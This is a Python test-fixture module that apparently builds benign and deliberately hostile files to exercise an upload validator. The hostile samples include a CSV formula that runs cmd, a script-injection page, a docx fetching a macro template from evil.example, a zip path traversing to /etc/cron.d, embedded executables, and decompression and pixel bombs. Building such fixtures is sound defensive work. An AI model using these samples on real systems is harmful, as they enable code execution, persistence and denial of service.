"""Files as people and attackers make them, small, and built here: nobody's documents."""

import io
import struct
import zipfile
import zlib

from PIL import Image

PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"
OFFICE = {
    "docx": ("word/document.xml", "wordprocessingml.document"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation"),
}
OPEN = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}
PLACE = b"48.8566 N, 2.3522 E, camera 4711"


def office(ending: str, more: dict[str, bytes] | None = None, main: str = "") -> bytes:
    """A document of Office Open XML with the members MORE; MAIN is another content type for its main part."""
    part, kind = OFFICE[ending]
    kind = main or f"application/vnd.openxmlformats-officedocument.{kind}.main+xml"
    members = {
        "[Content_Types].xml": f'<Types><Override PartName="/{part}" ContentType="{kind}"/></Types>'.encode(),
        "_rels/.rels": b"<Relationships/>",
        part: b"<document>words</document>",
    }
    return archive({**members, **(more or {})})


def open_document(ending: str, more: dict[str, bytes] | None = None) -> bytes:
    members = {"content.xml": b"<office/>", "META-INF/manifest.xml": b"<manifest/>", **(more or {})}
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("mimetype", f"application/vnd.oasis.opendocument.{OPEN[ending]}", zipfile.ZIP_STORED)
        for name, content in members.items():
            package.writestr(name, content)
    return file.getvalue()


def archive(members: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in members.items():
            package.writestr(name, content)
    return file.getvalue()


def image(ending: str, size: tuple[int, int] = (40, 20), mode: str = "RGB") -> bytes:
    """A photograph which says where it was taken."""
    said = Image.Exif()
    said[0x010E] = PLACE.decode()
    said[0x0112] = 6
    file = io.BytesIO()
    form = {"jpg": "JPEG", "png": "PNG", "webp": "WEBP"}[ending]
    Image.new(mode, size, "white").save(file, form, exif=said)
    return file.getvalue()


def moving(ending: str) -> bytes:
    file = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "green", "blue")]
    frames[0].save(file, ending.upper(), save_all=True, append_images=frames[1:])
    return file.getvalue()


def claiming(width: int, height: int) -> bytes:
    """A PNG of some bytes which says that it is WIDTH by HEIGHT."""
    return png(width, height, b"\0" * 1_000_000)


def png(width: int, height: int, pixels: bytes, depth: int = 8, colour: int = 2, more: bytes = b"") -> bytes:
    """A PNG with these PIXELS, whatever its head says; MORE are chunks before them."""
    head = struct.pack("!IIBBBBB", width, height, depth, colour, 0, 0, 0)
    body = chunk(b"IHDR", head) + more + chunk(b"IDAT", zlib.compress(pixels, 9)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack("!I", len(content)) + name + content + struct.pack("!I", zlib.crc32(name + content))


def many_members(count: int) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as package:
        for number in range(count):
            package.writestr(f"word/{number}.xml", b"")
    return file.getvalue()


def long_list(count: int) -> bytes:
    """An archive that is a list of COUNT members and nothing else."""
    first = b"PK\x03\x04" + b"\0" * 26
    listed = (b"PK\x01\x02" + b"\0" * 24 + b"\1" + b"\0" * 17 + b"a") * count
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, min(count, 65_535), min(count, 65_535), len(listed), 30, 0)
    return first + listed + end


GOOD = {
    "a.pdf": PDF,
    "a.docx": office("docx"),
    "a.xlsx": office("xlsx"),
    "a.pptx": office("pptx"),
    "a.odt": open_document("odt"),
    "a.ods": open_document("ods"),
    "a.odp": open_document("odp"),
    "a.txt": "Réponse reçue — الرد".encode(),
    "a.csv": b"State,requests\nFrance,-3\nMali,+4\n",
    "a.png": image("png"),
    "a.jpg": image("jpg"),
    "a.jpeg": image("jpg"),
    "a.webp": image("webp"),
}
EXECUTABLE = b"MZ\x90\x00" + b"\0" * 200
PAGE = b"<!DOCTYPE html><script>alert(1)</script>"

# Name, content, and the key of what is said of it.
BAD = {
    "a program named as a text": ("a.txt", EXECUTABLE, "mismatch"),
    "a program named as a PDF": ("a.pdf", EXECUTABLE, "mismatch"),
    "a page named as a text": ("a.txt", PAGE, "mismatch"),
    "a page named as an image": ("a.png", PAGE, "mismatch"),
    "a drawing named as a table": ("a.csv", b"\xef\xbb\xbf <svg onload='x'>", "mismatch"),
    "a JPEG named as a PNG": ("a.png", image("jpg"), "mismatch"),
    "a PDF behind a page": ("a.pdf", PAGE + PDF, "mismatch"),
    "half a PDF": ("a.pdf", PDF[:40], "damaged"),
    "an encrypted PDF": ("a.pdf", PDF.replace(b"/Root", b"/Encrypt 5 0 R/Root"), "locked"),
    "a text with signs of a machine": ("a.txt", b"words\x00\x01", "controls"),
    "a table that starts a program": ("a.csv", b"State\n=cmd|'/c calc'!A0\n", "macros"),
    "a document with macros": ("a.docx", office("docx", {"word/vbaProject.bin": b"x"}), "macros"),
    "a document that says it has macros": (
        "a.docx",
        office("docx", main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "macros",
    ),
    "a document with macros, written otherwise": (
        "a.docx",
        office("docx", main="application/vnd.ms-word.document.macroEn&#97;bled.main+xml"),
        "macros",
    ),
    "a document that fetches its template": (
        "a.docx",
        office(
            "docx",
            {
                "word/_rels/settings.xml.rels": b'<R><Relationship Type="http://x/attachedTemplate"'
                b' TargetMode="External" Target="https://evil.example/a.dotm"/></R>'
            },
        ),
        "macros",
    ),
    "a document with a program in it": ("a.docx", office("docx", {"word/embeddings/run.exe": b"MZ"}), "macros"),
    "an open document with macros": ("a.odt", open_document("odt", {"Basic/Standard/Module1.xml": b"x"}), "macros"),
    "an encrypted open document": (
        "a.odt",
        open_document(
            "odt", {"META-INF/manifest.xml": b"<manifest:manifest><manifest:encryption-data/></manifest:manifest>"}
        ),
        "locked",
    ),
    "a table named as a document": ("a.docx", office("xlsx"), "mismatch"),
    "a text of Open Document named as a table": ("a.ods", open_document("odt"), "mismatch"),
    "an archive named as a document": ("a.docx", archive({"a.txt": b"x"}), "mismatch"),
    "a document with a password": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "locked"),
    "a document whose end is missing": ("a.docx", office("docx")[:-40], "damaged"),
    "a document that leaves its folder": ("a.docx", office("docx", {"../../etc/cron.d/x": b"x"}), "damaged"),
    "a document with entities of its own": (
        "a.docx",
        office("docx", {"[Content_Types].xml": b'<!DOCTYPE a [<!ENTITY b "c">]><Types/>'}),
        "damaged",
    ),
    "an image that moves": ("a.webp", moving("webp"), "moving"),
    "a drawing that moves": ("a.png", moving("png"), "moving"),
    "half an image": ("a.png", image("png", (300, 300))[:-60], "damaged"),
}


def bombs() -> dict[str, tuple[str, bytes, str]]:
    """Small files that unpacked take all there is."""
    return {
        "a gigabyte of zeros in a document": ("a.docx", office("docx", {"word/a.xml": b"0" * (1 << 28)}), "crowded"),
        "a gigabyte in a list of types": (
            "a.xlsx",
            office("xlsx", {"[Content_Types].xml": b"<Types>" + b" " * (1 << 27) + b"</Types>"}),
            "crowded",
        ),
        "nine megabytes in a list of types": (
            "a.xlsx",
            office("xlsx", {"[Content_Types].xml": b"<Types>" + b" " * (9 << 20) + b"</Types>"}),
            "crowded",
        ),
        "ten thousand members": ("a.docx", many_members(10_000), "crowded"),
        "a list of half a million members": ("a.docx", long_list(500_000), "crowded"),
        "four billion pixels": ("a.png", claiming(65_000, 65_000), "pixels"),
        "thirty million pixels": ("a.png", claiming(6_000, 5_000), "pixels"),
    }


def heaviest() -> dict[str, tuple[str, bytes, set[str]]]:
    """What costs the most of all that is opened: bombs that no count of bytes gives away, and the largest images.

    Name, content, and what may be said of it: on another machine a little more or less memory may be at hand.
    """
    side = 4_472
    row = b"\0" * (1 + 8 * side)
    zeros = zlib.compress(b"0" * (1 << 27), 9)
    stream = b"1 0 obj<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream endobj\n" % (len(zeros), zeros)
    sea = io.BytesIO()
    Image.new("RGBA", (3_160, 3_160)).save(sea, "WEBP", lossless=True)
    bomb = office("docx", {"word/a.xml": b"0" * (1 << 26)})
    types = "[Content_Types].xml"
    return {
        "twenty million pixels of eight bytes": ("a.png", png(side, side, row * side, 16, 6), {"", "costly"}),
        "ten million pixels in WebP": ("a.webp", sea.getvalue(), {"", "damaged", "costly"}),
        "a profile of colours that unpacks to much": (
            "a.png",
            png(9, 9, b"\0" * 999, more=chunk(b"iCCP", b"k\0\0" + zeros)),
            {"damaged"},
        ),
        "a million elements in each other": ("a.docx", office("docx", {types: b"<a>" * 1_300_000}), {"costly"}),
        "archives in an archive": (
            "a.docx",
            office("docx", {f"word/embeddings/{number}.docx": bomb for number in range(50)}),
            # They are counted as they lie there, and not opened.
            {""},
        ),
        "a page of a PDF that unpacks to much": ("a.pdf", b"%PDF-1.7\n" + stream + PDF[9:], {""}),
        "a table of nothing but signs": ("a.csv", b",=" + b"=" * 20_000_000, {""}),
    }
